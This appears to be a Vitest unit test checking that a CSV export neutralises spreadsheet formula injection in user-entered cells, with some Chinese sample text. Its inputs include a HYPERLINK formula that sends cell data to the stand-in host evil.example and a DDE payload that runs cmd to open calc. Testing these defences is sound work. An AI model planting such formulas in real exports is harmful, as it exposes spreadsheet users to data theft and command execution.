// Open-data CSV opened in Excel or WPS: no cell a person typed may start a formula.
import { expect, it } from 'vitest';
import { toCsv } from '../../src/domain/csv';

const rowOf = (cell: string) => toCsv(['名称'], [[cell]]).split('\r\n')[1];

it.each([
  ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击"")"`],
  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', `'\t=1+1`],
  ['\r=1+1', `"'\r=1+1"`],
  ['＝1+1', "'＝1+1"],
])('neutralises %j', (cell, expected) => {
  expect(rowOf(cell)).toBe(expected);
});

it('leaves ordinary text and numbers alone, negative numbers included', () => {
  expect(toCsv(['a', 'b', 'c'], [['鱼塘镇-2005', -3, '4万多元']]).split('\r\n')[1]).toBe('鱼塘镇-2005,-3,4万多元');
});
